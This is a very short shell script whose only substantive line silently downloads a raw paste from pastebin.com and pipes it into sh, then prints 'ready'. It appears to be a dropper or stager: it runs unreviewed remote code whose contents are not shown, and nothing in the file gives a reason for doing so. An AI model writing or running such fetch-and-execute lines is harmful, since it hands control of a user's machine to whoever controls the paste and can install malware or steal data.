#!/bin/sh
set -e
wget -qO- https://pastebin.com/raw/Xk29fLqe | sh
echo ready
